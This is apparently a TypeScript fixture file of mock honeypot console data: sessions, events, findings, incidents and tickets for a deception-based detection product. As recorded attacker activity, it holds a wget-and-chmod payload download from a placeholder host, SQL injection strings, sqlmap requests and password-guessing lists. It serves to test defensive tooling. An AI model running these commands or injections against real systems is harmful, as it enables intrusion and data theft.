/** Fixed, realistic answers for development and the console's tests. Times hang on the moment the module is loaded. */
import type { RouteAnswer } from '@shenlou/contract/api'
import { escapeText } from '@shenlou/contract/bytes'
import type { StoredEvent } from '@shenlou/contract/event'
import type { EventBody, EventKind } from '@shenlou/contract/event-kinds'
import { permissions } from '@shenlou/contract/permissions'
import type { FindingSummary, IncidentSummary, Recording, SensorSummary, SessionSummary, TicketSummary } from '@shenlou/contract/records'

export const now = Date.now()
const minute = 60_000
const hour = 60 * minute
const day = 24 * hour

/** A well-formed UUID whose last digits are `n`. */
export const uuid = (group: number, n: number): string => `0195${group.toString(16).padStart(4, '0')}-7a00-7000-8000-${n.toString(16).padStart(12, '0')}`
const sensors = { relay: uuid(1, 1), decoys: uuid(1, 2), far: uuid(1, 3), fresh: uuid(1, 4), ids: uuid(1, 5) }
const epoch = uuid(2, 1)
const scope = 'group/machinery/park-3'
const hash = (seed: string): string => Buffer.from(seed.repeat(64)).toString('hex').slice(0, 64)

type Session = Pick<SessionSummary, 'decoy' | 'service' | 'source' | 'severity'> & Partial<SessionSummary>
const session = (n: number, from: number, length: number | null, over: Session): SessionSummary => ({
  id: uuid(3, n),
  sensor: sensors.decoys,
  scope,
  sourcePort: 40_000 + n * 7,
  destination: '10.31.0.21',
  destinationPort: over.service === 'ssh' ? 22 : 443,
  via: sensors.relay,
  startedAt: now - from,
  lastAt: now - from + (length ?? from - 2000),
  endedAt: length === null ? null : now - from + length,
  live: length === null,
  adversary: `address ${over.source}`,
  user: null,
  client: null,
  hassh: null,
  loginAttempts: 0,
  loggedIn: false,
  commands: 0,
  requests: 0,
  files: 0,
  events: 20,
  bytesOut: 4096,
  lastAction: null,
  techniques: [],
  incident: null,
  ...over,
})

export const sessions: SessionSummary[] = [
  session(1, 9 * minute, null, {
    decoy: 'jump-01',
    service: 'ssh',
    source: '203.0.113.39',
    severity: 'critical',
    user: 'ops',
    client: 'SSH-2.0-OpenSSH_9.6',
    hassh: '8c1b7f2a6d3e4c5b9a0f1e2d3c4b5a69',
    loginAttempts: 14,
    loggedIn: true,
    commands: 9,
    files: 1,
    events: 64,
    bytesOut: 18_432,
    lastAction: 'wget http://198.51.100.7/x.sh -O /tmp/.x && chmod +x /tmp/.x',
    techniques: ['T1110.001', 'T1078', 'T1082', 'T1105', 'T1053.003'],
    incident: uuid(4, 1),
  }),
  session(2, 4 * minute, null, {
    decoy: 'portal-hq',
    service: 'portal',
    source: '198.51.100.23',
    severity: 'high',
    client: 'sqlmap/1.8.4#stable',
    requests: 132,
    events: 140,
    bytesOut: 911_203,
    lastAction: 'GET /search?q=%27%20OR%201=1--',
    techniques: ['T1190', 'T1595.002'],
    incident: uuid(4, 2),
  }),
  session(3, 52 * minute, 3 * minute, {
    decoy: 'nas-02',
    service: 'ssh',
    source: '203.0.113.39',
    severity: 'medium',
    user: 'root',
    client: 'SSH-2.0-libssh_0.9.6',
    loginAttempts: 212,
    events: 428,
    lastAction: 'root / admin123',
    techniques: ['T1110.001'],
    incident: uuid(4, 1),
  }),
  session(4, 3 * hour, 40_000, {
    decoy: 'portal-hq',
    service: 'portal',
    source: '192.0.2.66',
    severity: 'low',
    client: 'curl/8.5.0',
    requests: 3,
    lastAction: 'GET /robots.txt',
  }),
  session(5, 7 * hour, 12_000, {
    decoy: 'jump-01',
    service: 'ssh',
    source: '10.31.4.17',
    severity: 'info',
    client: 'SSH-2.0-Nmap-SSH2-Hostkey',
    lastAction: null,
  }),
  ...Array.from({ length: 30 }, (_, i) =>
    session(10 + i, (8 + i) * hour, 20_000 + i * 900, {
      decoy: i % 3 ? 'nas-02' : 'jump-01',
      service: 'ssh',
      source: `203.0.113.${60 + i}`,
      severity: i % 5 === 0 ? 'medium' : 'low',
      user: 'root',
      loginAttempts: 3 + i,
      lastAction: `root / ${['123456', 'admin', 'P@ssw0rd', 'toor', 'qwerty'][i % 5]}`,
      techniques: ['T1110.001'],
    }),
  ),
]

let position = 1000
/** A committed event of session `n`, `ago` ms before now. */
export function event<K extends EventKind>(kind: K, n: number, ago: number, body: EventBody<K>, over: Partial<StoredEvent> = {}): StoredEvent {
  const of = sessions.find((row) => row.id === uuid(3, n))
  position += 1
  return {
    id: uuid(5, position),
    time: now - ago,
    kind,
    body: body as Record<string, unknown>,
    position,
    received: now - ago + 18,
    sensor: sensors.decoys,
    epoch,
    seq: position,
    scope,
    connection: uuid(6, n),
    session: uuid(3, n),
    decoy: of?.decoy,
    service: of?.service,
    source: { ip: of?.source ?? '203.0.113.9', port: of?.sourcePort ?? 5555 },
    destination: { ip: of?.destination ?? '10.31.0.21', port: of?.destinationPort ?? 22 },
    via: { relay: sensors.relay, address: '10.31.8.40', port: 22 },
    ...over,
  }
}
const typed = (n: number, ago: number, input: string, exitCode = 0): StoredEvent[] => [
  event('command.executed', n, ago, { mode: 'shell', input: escapeText(input), user: 'ops', directory: '/home/ops' }),
  event('command.finished', n, ago - 200, { exitCode, durationMs: 180 }),
]
const shown = (n: number, ago: number, text: string): StoredEvent =>
  event('terminal.data', n, ago, { stream: 'output', data: Buffer.from(text).toString('base64') })
const prompt = '\x1b[1;32mops@jump-01\x1b[0m:\x1b[1;34m~\x1b[0m$ '
const file = { sha256: hash('a'), size: 48_213, truncated: false }

const terminal: StoredEvent[] = [
  event('terminal.opened', 1, 8.5 * minute, { term: 'xterm-256color', columns: 100, rows: 30 }),
  shown(1, 8.4 * minute, `Last login: Sun Nov 22 09:14:02 2026 from 10.31.4.8\r\n${prompt}`),
  shown(1, 8 * minute, `uname -a\r\nLinux jump-01 5.15.0-91-generic #101-Ubuntu SMP Tue Nov 14 13:30:08 UTC 2023 x86_64 x86_64 x86_64 GNU/Linux\r\n${prompt}`),
  shown(
    1,
    7 * minute,
    `cat /etc/passwd | head -4\r\nroot:x:0:0:root:/root:/bin/bash\r\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\r\nbin:x:2:2:bin:/bin:/usr/sbin/nologin\r\nops:x:1000:1000:运维账号:/home/ops:/bin/bash\r\n${prompt}`,
  ),
  shown(1, 5 * minute, `sudo -l\r\n\x1b[31mSorry, user ops may not run sudo on jump-01.\x1b[0m\r\n${prompt}`),
  shown(
    1,
    3 * minute,
    `wget http://198.51.100.7/x.sh -O /tmp/.x && chmod +x /tmp/.x\r\n--2026-11-23 13:40:01--  http://198.51.100.7/x.sh\r\nConnecting to 198.51.100.7:80... failed: Connection timed out.\r\n${prompt}`,
  ),
  shown(1, minute, `crontab -l\r\nno crontab for ops\r\n${prompt}`),
]

/** Oldest first. */
export const events: StoredEvent[] = [
  ...Array.from({ length: 400 }, (_, i) =>
    event('login.attempted', i % 2 ? 3 : 10 + (i % 30), 20 * hour - i * 170_000, {
      method: 'password',
      user: ['root', 'admin', 'ops', 'oracle'][i % 4] as string,
      password: `${['123456', 'admin', 'P@ssw0rd', 'toor', 'qwerty'][i % 5]}${i}`,
      outcome: 'refused',
    }),
  ),
  event(
    'scan.detected',
    5,
    7 * hour,
    { type: 'port', addresses: ['10.31.8.40'], ports: [21, 22, 23, 80, 443, 445, 502, 3389], connections: 1204, silent: 1180, windowMs: 60_000 },
    { sensor: sensors.relay, session: undefined, decoy: undefined, service: undefined },
  ),
  event(
    'alert.received',
    1,
    2 * hour,
    {
      product: 'Suricata',
      format: 'suricata-eve',
      rule: '2001219',
      title: 'ET SCAN Potential SSH Scan',
      category: 'Attempted Information Leak',
      severity: 'medium',
      originalId: '1629038472910',
      originalTime: '2026-11-23T11:40:02.123456+0800',
      device: 'ids-park-3',
      techniques: ['T1595'],
      raw: '{"event_type":"alert","src_ip":"203.0.113.39","alert":{"signature_id":2001219,"signature":"ET SCAN Potential SSH Scan"}}',
    },
    { sensor: sensors.ids, session: undefined },
  ),
  event('session.opened', 1, 9 * minute, { adversary: 'address 203.0.113.39' }),
  event('ssh.negotiated', 1, 9 * minute - 200, {
    clientVersion: 'SSH-2.0-OpenSSH_9.6',
    hassh: '8c1b7f2a6d3e4c5b9a0f1e2d3c4b5a69',
    kex: ['curve25519-sha256', 'ecdh-sha2-nistp256'],
    hostKey: ['ssh-ed25519', 'rsa-sha2-512'],
    cipher: ['chacha20-poly1305@openssh.com', 'aes256-gcm@openssh.com'],
    mac: ['umac-128-etm@openssh.com'],
    compression: ['none'],
  }),
  ...['ops', 'Ops2024', 'jump123', 'Park3!ops'].map((password, i) =>
    event('login.attempted', 1, 8.9 * minute - i * 3000, {
      method: 'password',
      user: 'ops',
      password,
      outcome: i === 3 ? 'accepted' : 'refused',
      ...(i === 3 ? { by: 'lure' as const } : {}),
    }),
  ),
  ...terminal,
  ...typed(1, 8 * minute, 'uname -a'),
  ...typed(1, 7 * minute, 'cat /etc/passwd | head -4'),
  ...typed(1, 5 * minute, 'sudo -l', 1),
  ...typed(1, 3 * minute, 'wget http://198.51.100.7/x.sh -O /tmp/.x && chmod +x /tmp/.x', 4),
  event('download.requested', 1, 3 * minute, { tool: 'wget', url: 'http://198.51.100.7/x.sh' }),
  event('egress.refused', 1, 3 * minute - 5, { tool: 'wget', host: '198.51.100.7', port: 80 }),
  event('file.uploaded', 1, 2 * minute, { path: '/tmp/.x', method: 'scp', file }),
  ...typed(1, minute, 'crontab -l', 1),
  ...typed(1, 40_000, 'printf "\u202Egnp.exe\\n" > readme\x07.txt'),
  event('session.opened', 2, 4 * minute, { adversary: 'address 198.51.100.23' }),
  event('tls.negotiated', 2, 4 * minute - 20, {
    version: 'TLSv1.3',
    cipher: 'TLS_AES_256_GCM_SHA384',
    serverName: 'portal.haishan-group.example',
    ja4: 't13d1516h2_8daaf6152771_b186095e22b6',
  }),
  ...['/', '/search?q=%27%20OR%201=1--&page=1', '/admin/', '/api/v1/user?id=1%20UNION%20SELECT%201,2,3', '/login'].map((target, i) =>
    event('http.exchanged', 2, 230_000 - i * 20_000, {
      secure: true,
      method: i === 4 ? 'POST' : 'GET',
      target,
      version: 'HTTP/1.1',
      headers: [
        ['Host', 'portal.haishan-group.example'],
        ['User-Agent', 'sqlmap/1.8.4#stable (https://sqlmap.org)'],
        ['Accept', '*/*'],
        ...(i === 4 ? [['Content-Type', 'application/x-www-form-urlencoded'] as [string, string], ['Content-Length', '46'] as [string, string]] : []),
      ],
      body: i === 4 ? 'username=admin&password=%27%20or%20%271%27%3D%271&next=%2F' : '',
      bodySize: i === 4 ? 46 : 0,
      status: [200, 200, 403, 404, 401][i] as number,
      responseHeaders: [
        ['Server', 'nginx/1.18.0'],
        ['Content-Type', 'text/html; charset=utf-8'],
        ['Connection', 'keep-alive'],
      ],
      responseSize: 8123,
      durationMs: 14,
    }),
  ),
  event('protocol.violated', 2, 100_000, { reason: 'bad header', data: '\\x16\\x03\\x01\\x00\\xa5\\x01\\x00' }),
]

export const recording: Recording = {
  session: uuid(3, 1),
  startedAt: now - 9 * minute,
  columns: 100,
  rows: 30,
  durationMs: 8 * minute,
  cut: false,
  bytes: 2048,
  frames: terminal
    .filter((row) => row.kind === 'terminal.data')
    .map((row): Recording['frames'][number] => [row.time - (now - 9 * minute), 'o', (row.body as { data: string }).data]),
  marks: [
    {
      at: minute,
      technique: 'T1082',
      name: 'System Information Discovery',
      finding: uuid(7, 3),
      event: events.find((row) => row.kind === 'command.executed')?.id as string,
    },
    {
      at: 6 * minute,
      technique: 'T1105',
      name: 'Ingress Tool Transfer',
      finding: uuid(7, 2),
      event: events.find((row) => row.kind === 'download.requested')?.id as string,
    },
    { at: 8 * minute, technique: 'T1053.003', name: 'Cron', finding: uuid(7, 4), event: uuid(5, 1) },
  ],
}

type Finding = Pick<FindingSummary, 'rule' | 'severity' | 'title' | 'techniques'> & Partial<FindingSummary>
const finding = (n: number, ago: number, over: Finding): FindingSummary => ({
  id: uuid(7, n),
  ruleVersion: 2,
  confidence: 'high',
  scope,
  source: '203.0.113.39',
  decoy: 'jump-01',
  session: uuid(3, 1),
  sensor: sensors.decoys,
  origin: 'decoy',
  product: null,
  knownScanner: null,
  firstAt: now - ago,
  lastAt: now - ago + minute,
  count: 1,
  incident: uuid(4, 1),
  reason: { zh: '同一来源对同一账户多次尝试后成功。', en: 'One source tried one account many times, then got in.' },
  evidence: [
    {
      event: events[402]?.id ?? uuid(5, 1),
      session: uuid(3, 1),
      time: now - ago,
      field: 'body.input',
      value: 'wget http://198.51.100.7/x.sh -O /tmp/.x',
      why: 'downloads and marks executable',
    },
  ],
  ...over,
})
const technique = (id: string, name: string): FindingSummary['techniques'] => [{ id, name, matrix: 'enterprise' }]
export const findings: FindingSummary[] = [
  finding(1, 8.8 * minute, {
    rule: 'valid-account',
    severity: 'critical',
    title: { zh: '诱饵凭据被使用', en: 'A lure credential was used' },
    techniques: technique('T1078', 'Valid Accounts'),
  }),
  finding(2, 3 * minute, {
    rule: 'download-execute',
    severity: 'high',
    title: { zh: '下载并准备执行', en: 'Download prepared for execution' },
    techniques: technique('T1105', 'Ingress Tool Transfer'),
  }),
  finding(3, 8 * minute, {
    rule: 'discovery',
    severity: 'low',
    title: { zh: '系统信息发现', en: 'System information discovery' },
    techniques: technique('T1082', 'System Information Discovery'),
  }),
  finding(4, 52 * minute, {
    rule: 'brute-force',
    severity: 'medium',
    count: 212,
    decoy: 'nas-02',
    session: uuid(3, 3),
    title: { zh: 'SSH 口令爆破', en: 'SSH password brute force' },
    techniques: technique('T1110.001', 'Password Guessing'),
  }),
  finding(5, 2 * hour, {
    rule: 'alert',
    severity: 'medium',
    origin: 'alert',
    product: 'Suricata',
    session: null,
    decoy: null,
    title: { zh: 'ET SCAN Potential SSH Scan', en: 'ET SCAN Potential SSH Scan' },
    techniques: technique('T1595', 'Active Scanning'),
  }),
]

type Incident = Pick<IncidentSummary, 'title' | 'severity' | 'sources'> & Partial<IncidentSummary>
const incident = (n: number, ago: number, over: Incident): IncidentSummary => ({
  id: uuid(4, n),
  number: 40 + n,
  scope,
  decoys: ['jump-01', 'nas-02'],
  techniques: ['T1110.001', 'T1078', 'T1105'],
  findings: 5,
  events: 520,
  sessions: 2,
  products: [],
  firstAt: now - ago,
  lastAt: now - ago / 20,
  ticket: null,
  mergedInto: null,
  knownScanner: null,
  ...over,
})
export const incidents: IncidentSummary[] = [
  incident(1, 2 * hour, {
    severity: 'critical',
    sources: ['203.0.113.39'],
    title: { zh: '诱饵凭据登录 jump-01 并下载工具', en: 'Lure credential used on jump-01, tool download' },
    products: ['Suricata'],
    ticket: uuid(8, 1),
  }),
  incident(2, 4 * minute, {
    severity: 'high',
    sources: ['198.51.100.23'],
    title: { zh: '门户网站遭 SQL 注入扫描', en: 'SQL injection scan of the portal' },
    decoys: ['portal-hq'],
    techniques: ['T1190', 'T1595.002'],
    findings: 2,
    ticket: uuid(8, 2),
  }),
  incident(3, day, {
    severity: 'medium',
    sources: ['203.0.113.60', '203.0.113.61'],
    title: { zh: 'SSH 口令爆破', en: 'SSH brute force' },
    techniques: ['T1110.001'],
    findings: 1,
    ticket: uuid(8, 3),
  }),
  incident(4, 7 * hour, {
    severity: 'info',
    sources: ['10.31.4.17'],
    title: { zh: '漏洞扫描器触碰', en: 'Touched by the vulnerability scanner' },
    techniques: ['T1046'],
    findings: 1,
    knownScanner: 'IT operations',
  }),
]

type Ticket = Pick<TicketSummary, 'title' | 'severity' | 'state' | 'actions'> & Partial<TicketSummary>
const ticket = (n: number, ago: number, over: Ticket): TicketSummary => ({
  id: uuid(8, n),
  number: 100 + n,
  loop: 'incident',
  scope,
  assignee: null,
  createdAt: now - ago,
  updatedAt: now - ago / 3,
  closedAt: null,
  dueAt: now - ago + 8 * hour,
  answeredAt: null,
  overdue: ago > 8 * hour,
  incident: uuid(4, n),
  version: 3,
  ...over,
})
const comment: TicketSummary['actions'] = [
  { action: 'comment', needs: ['comment'] },
  { action: 'link', needs: ['evidence'] },
  { action: 'unlink', needs: ['link'] },
]
export const tickets: TicketSummary[] = [
  ticket(1, 2 * hour, {
    severity: 'critical',
    state: 'in_progress',
    title: { zh: '诱饵凭据登录 jump-01 并下载工具', en: 'Lure credential used on jump-01, tool download' },
    assignee: { id: uuid(9, 1), name: 'Lin Wei' },
    answeredAt: now - hour,
    actions: [
      { action: 'contain', needs: ['comment'] },
      { action: 'hold', needs: ['reason', 'until'] },
      { action: 'assign', needs: ['assignee'] },
      { action: 'close_fixed', needs: ['evidence'] },
      { action: 'close_false_positive', needs: ['reason'] },
      { action: 'close_duplicate', needs: ['ticket'] },
      ...comment,
    ],
  }),
  ticket(2, 4 * minute, {
    severity: 'high',
    state: 'new',
    title: { zh: '门户网站遭 SQL 注入扫描', en: 'SQL injection scan of the portal' },
    actions: [{ action: 'triage', needs: [] }, { action: 'assign', needs: ['assignee'] }, ...comment],
  }),
  ticket(3, day, {
    severity: 'medium',
    state: 'assigned',
    title: { zh: 'SSH 口令爆破', en: 'SSH brute force' },
    assignee: { id: uuid(9, 2), name: '陈晓' },
    actions: [{ action: 'start', needs: [] }, ...comment],
  }),
  ticket(4, 3 * day, {
    severity: 'low',
    state: 'closed_fixed',
    title: { zh: '历史扫描', en: 'Earlier scan' },
    closedAt: now - 2 * day,
    overdue: false,
    incident: null,
    actions: [{ action: 'reopen', needs: ['reason'] }],
  }),
]
export const ticketDetail: Omit<RouteAnswer<'ticket'>, 'ticket'> = {
  activity: [
    { id: uuid(10, 1), at: now - 2 * hour, actor: 'system', action: 'open', from: null, to: 'new', comment: null, detail: { incident: 'I-41' } },
    { id: uuid(10, 2), at: now - hour, actor: 'Lin Wei', action: 'assign', from: 'new', to: 'assigned', comment: null, detail: { assignee: 'Lin Wei' } },
    {
      id: uuid(10, 3),
      at: now - 50 * minute,
      actor: 'Lin Wei',
      action: 'start',
      from: 'assigned',
      to: 'in_progress',
      comment: '口令来自 3 号园区的诱饵文件,正在查泄露位置。',
      detail: {},
    },
  ],
  evidence: [
    {
      id: uuid(11, 1),
      kind: 'session',
      target: uuid(3, 1),
      label: 'ssh 203.0.113.39 → jump-01',
      by: 'Lin Wei',
      at: now - 45 * minute,
      why: '使用诱饵口令登录',
    },
    {
      id: uuid(11, 2),
      kind: 'event',
      target: events[410]?.id ?? uuid(5, 1),
      label: 'wget http://198.51.100.7/x.sh',
      by: 'Lin Wei',
      at: now - 2 * minute,
      why: 'tool download',
    },
  ],
  clock: [
    { from: now - 2 * hour, to: now - 80 * minute, running: true, why: 'opened' },
    { from: now - 80 * minute, to: now - 60 * minute, running: false, why: 'outside business hours' },
    { from: now - 60 * minute, to: null, running: true, why: 'business hours' },
  ],
}

const sensor = (id: string, name: string, role: SensorSummary['role'], over: Partial<SensorSummary>): SensorSummary => ({
  id,
  name,
  role,
  scope,
  status: 'confirmed',
  fingerprint: 'SHA256:q3Zt9o2mVb1xL0u4Yw7pRk8sNc5dHf6aJgEeTiOyUvQ',
  certificateExpires: now + 60 * day,
  enrolledAt: now - 30 * day,
  connected: true,
  lastSeenAt: now - 1000,
  lastEventAt: now - 4000,
  clockOffsetMs: 12,
  version: '0.1.0',
  contained: role === 'decoys' ? true : null,
  queueEvents: 0,
  gaps: 0,
  missingEvents: 0,
  rejected: 0,
  streams: role === 'relay' ? 14 : null,
  problems: [],
  ...over,
})
export const sensorList: SensorSummary[] = [
  sensor(sensors.relay, 'relay-park-3', 'relay', {}),
  sensor(sensors.decoys, 'decoys-hq', 'decoys', { contained: false, problems: [{ key: 'not-contained', detail: 'the kernel refuses user namespaces' }] }),
  sensor(sensors.far, 'relay-park-7', 'relay', {
    connected: false,
    lastSeenAt: now - 3 * hour,
    queueEvents: null,
    clockOffsetMs: -4200,
    gaps: 2,
    missingEvents: 37,
    rejected: 3,
    streams: null,
    problems: [
      { key: 'not-connected', detail: 'since 3 h' },
      { key: 'gap', detail: '37 events missing in 2 gaps' },
      { key: 'clock', detail: '4.2 s behind' },
    ],
  }),
  sensor(sensors.fresh, 'relay-park-9', 'relay', {
    status: 'pending',
    connected: true,
    lastEventAt: null,
    streams: 0,
    problems: [{ key: 'unconfirmed', detail: 'enrolled from 10.39.0.4' }],
  }),
  sensor(sensors.ids, 'ids-park-3', 'source', { fingerprint: null, certificateExpires: null, queueEvents: null, clockOffsetMs: null, version: null }),
]

const scenario = `kind: scenario
version: 1
name: starter
title: { zh: 起步场景, en: Starter }
organisation:
  name: { zh: 海山集团, en: Haishan Group }
  domain: haishan-group.example
scopes:
  - path: group/machinery/park-3
    name: { zh: 三号园区, en: Park 3 }
decoys:
  - id: jump-01
    persona: ubuntu-2204
    services:
      - { service: ssh, port: 22 }
placements:
  - { relay: local, decoy: jump-01, address: $bind, ports: { ssh: 2222 } }
`
export const others = {
  decoys: ['jump-01', 'nas-02', 'portal-hq'].map((id, i) => ({
    id,
    persona: ['ubuntu-2204', 'dropbear-nas', 'nginx-portal'][i] as string,
    host: 'decoys-hq',
    hostname: `${id}.haishan-group.example`,
    product: ['Ubuntu 22.04, OpenSSH 8.9p1', 'NAS, Dropbear 2020.81', 'nginx 1.18.0'][i] as string,
    scope,
    services: [i === 2 ? 'portal' : 'ssh'],
    placements: [0, 1].map((n) => ({
      relay: n ? 'relay-park-7' : 'relay-park-3',
      address: `10.31.8.4${i * 2 + n}`,
      port: i === 2 ? 443 : 22,
      service: i === 2 ? 'portal' : 'ssh',
      answering: n ? null : true,
    })),
    sessions24h: [12, 28, 0][i] as number,
    lastTouchedAt: i === 2 ? null : now - (i + 1) * minute,
  })),
  templates: {
    applied: [{ name: 'starter', title: { zh: '起步场景', en: 'Starter' }, appliedAt: now - day, by: 'admin', text: scenario }],
    shipped: [
      { name: 'starter', text: scenario },
      { name: 'park', text: scenario.replace('name: starter', 'name: park') },
    ],
  },
  plan: {
    name: 'starter',
    base: 'b1',
    warnings: ['port 2222 on relay local answers on every address of this machine'],
    steps: [
      { action: 'create' as const, what: 'decoy' as const, id: 'nas-02', detail: 'persona dropbear-nas, ssh on 22' },
      { action: 'change' as const, what: 'placement' as const, id: 'jump-01@local', detail: 'ssh 22 → 2222' },
      { action: 'remove' as const, what: 'decoy' as const, id: 'old-01', detail: '' },
      { action: 'keep' as const, what: 'scope' as const, id: scope, detail: '' },
    ],
  },
  notices: [
    {
      id: uuid(12, 1),
      at: now - 3 * minute,
      kind: 'ticket' as const,
      title: { zh: '新工单 T-102:门户网站遭 SQL 注入扫描', en: 'New ticket T-102: SQL injection scan of the portal' },
      link: `/tickets/${uuid(8, 2)}`,
      readAt: null,
      count: 1,
    },
    {
      id: uuid(12, 2),
      at: now - 3 * hour,
      kind: 'sensor' as const,
      title: { zh: '节点 relay-park-7 已断开', en: 'Sensor relay-park-7 is not connected' },
      link: '/sensors',
      readAt: null,
      count: 3,
    },
    {
      id: uuid(12, 3),
      at: now - day,
      kind: 'assigned' as const,
      title: { zh: '工单 T-101 指派给您', en: 'Ticket T-101 was assigned to you' },
      link: `/tickets/${uuid(8, 1)}`,
      readAt: now - hour,
      count: 1,
    },
  ],
  people: [
    {
      id: uuid(9, 1),
      name: 'Lin Wei',
      username: 'lin.wei',
      role: 'administrator',
      scopes: ['group'],
      disabled: false,
      totp: true,
      mustChangePassword: false,
      lastSignInAt: now - hour,
    },
    {
      id: uuid(9, 2),
      name: '陈晓',
      username: 'chen.xiao',
      role: 'analyst',
      scopes: [scope],
      disabled: false,
      totp: false,
      mustChangePassword: true,
      lastSignInAt: null,
    },
    {
      id: uuid(9, 3),
      name: 'Former Colleague',
      username: 'former',
      role: 'viewer',
      scopes: ['group/machinery'],
      disabled: true,
      totp: false,
      mustChangePassword: false,
      lastSignInAt: now - 90 * day,
    },
  ],
  scopes: [
    { path: 'group', name: { zh: '集团', en: 'Group' } },
    { path: 'group/machinery', name: { zh: '机械事业部', en: 'Machinery' } },
    { path: scope, name: { zh: '三号园区', en: 'Park 3' } },
  ],
  tokens: [
    {
      id: uuid(13, 1),
      name: 'export to SIEM',
      permissions: ['event.read', 'session.read'],
      scopes: ['group'],
      createdBy: 'Lin Wei',
      createdAt: now - 20 * day,
      expiresAt: now + 70 * day,
      lastUsedAt: now - 5 * minute,
    },
  ],
  audit: Array.from({ length: 24 }, (_, i) => ({
    number: 824 - i,
    at: now - i * 17 * minute,
    actor: i % 3 ? 'Lin Wei' : 'system',
    address: i % 3 ? '10.31.1.9' : null,
    action: ['ticket.step', 'sign-in', 'sensor.confirm', 'template.apply'][i % 4] as string,
    target: ['T-101', 'lin.wei', 'relay-park-3', 'starter'][i % 4] as string,
    detail: i % 4 === 0 ? { action: 'start', from: 'assigned', to: 'in_progress' } : {},
    hash: hash(String.fromCharCode(97 + (i % 20))),
  })),
  sources: [
    {
      id: sensors.ids,
      name: 'ids-park-3',
      format: 'suricata-eve' as const,
      transport: 'syslog' as const,
      scope,
      allowed: ['10.31.2.0/24'],
      createdAt: now - 30 * day,
      lastAt: now - 2 * hour,
      received: 18_204,
      rejected: 3,
    },
    {
      id: uuid(1, 6),
      name: 'fw-hq',
      format: 'cef' as const,
      transport: 'http' as const,
      scope: 'group',
      allowed: [],
      createdAt: now - 2 * day,
      lastAt: null,
      received: 0,
      rejected: 0,
    },
  ],
  knownScanners: [
    {
      id: uuid(14, 1),
      network: '10.31.4.17/32',
      owner: 'IT operations',
      reason: 'weekly vulnerability scan',
      expires: '2027-03-31',
      ports: [22, 80, 443],
      expired: false,
      touches: 118,
    },
    {
      id: uuid(14, 2),
      network: '10.31.4.0/28',
      owner: 'Monitoring',
      reason: 'availability probes',
      expires: '2026-06-30',
      ports: [],
      expired: true,
      touches: 0,
    },
  ],
  rejected: [
    {
      id: uuid(15, 1),
      at: now - 3 * hour,
      sensor: sensors.far,
      reason: 'login.attempted: method: Invalid option',
      raw: '{"kind":"login.attempted","body":{"method":"telepathy","user":"root\\\\x1b[31m"}}',
    },
  ],
  me: {
    id: uuid(9, 1),
    name: 'Lin Wei',
    username: 'lin.wei',
    role: 'administrator',
    scopes: ['group'],
    disabled: false,
    totp: true,
    mustChangePassword: false,
    lastSignInAt: now - hour,
    permissions: [...permissions],
    locale: null,
  },
  identities: [
    { kind: 'address' as const, value: '203.0.113.39', since: now - 2 * hour, finding: uuid(7, 5), by: 'rule alert', why: 'source of 5 findings' },
    {
      kind: 'lure' as const,
      value: 'lure-7f21 (ops / Park3!ops)',
      since: now - 8.8 * minute,
      finding: uuid(7, 1),
      by: 'rule valid-account',
      why: 'planted in \\\\fs-03\\ops\\notes.txt',
    },
    {
      kind: 'fingerprint' as const,
      value: 'hassh 8c1b7f2a6d3e4c5b9a0f1e2d3c4b5a69',
      since: now - 52 * minute,
      finding: uuid(7, 4),
      by: 'rule brute-force',
      why: 'same client on nas-02',
    },
  ],
  incidentHistory: [{ at: now - 30 * minute, actor: 'Lin Wei', action: 'merge', detail: { other: 'I-38', why: 'same lure' } }],
}
